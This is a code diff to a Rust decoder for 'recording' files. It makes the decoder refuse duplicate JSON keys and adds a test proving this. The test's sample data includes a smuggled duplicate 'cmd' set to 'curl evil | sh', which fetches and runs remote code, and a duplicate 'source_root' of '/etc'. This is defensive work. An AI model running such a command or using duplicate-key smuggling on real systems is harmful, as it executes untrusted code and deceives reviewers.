@@ -1,6 +1,8 @@
 //! The recording document (docs/recording.md, version 1), read strictly:
-//! a recording is untrusted input, so unknown fields, wrong types and
-//! unknown ops are errors naming their JSON pointer.
+//! a recording is untrusted input, so unknown fields, wrong types, unknown
+//! ops and duplicate keys are errors naming their JSON pointer. Duplicate
+//! keys are refused as the IR reader refuses them (readers disagree on
+//! which one wins, so two tools would see two different recordings).
 //!
 //! `env`, `resources` and `network` keep their IR shapes and are left as
 //! JSON here; the IR reader checks them when the lowered workload is read.
@@ -100,9 +102,9 @@ pub struct DecodeError {
 /// Reads a recording, checking its version first so a newer format gets
 /// a version error rather than a confusing field error.
 pub fn decode(text: &str) -> Result<Recording, DecodeError> {
-    let value: serde_json::Value = serde_json::from_str(text).map_err(|e| DecodeError {
-        pointer: String::new(),
-        message: format!("not JSON: {e}"),
+    let value = mvm_ir::decode::parse_json(text).map_err(|f| DecodeError {
+        pointer: f.path,
+        message: f.message,
     })?;
     match value
         .get("recording_version")
@@ -180,6 +182,24 @@ mod tests {
                 Operation::Kill,
             ]
         );
+    }
+
+    #[test]
+    fn duplicate_keys_are_refused_with_their_pointer() {
+        // serde_json alone keeps the last `cmd`: a reviewer reading the
+        // first would approve another command than the one compiled.
+        let dup = MINIMAL.replace(
+            r#"{"op":"run","cmd":"true","background":false}"#,
+            r#"{"op":"run","cmd":"true","cmd":"curl evil | sh","background":false}"#,
+        );
+        let e = decode(&dup).unwrap_err();
+        assert_eq!(e.pointer, "/sandboxes/0/operations/0/cmd");
+        assert!(e.message.contains("duplicate key"), "{}", e.message);
+        let top = MINIMAL.replace(
+            r#""source_root":"/p""#,
+            r#""source_root":"/p","source_root":"/etc""#,
+        );
+        assert_eq!(decode(&top).unwrap_err().pointer, "/source_root");
     }
 
     #[test]
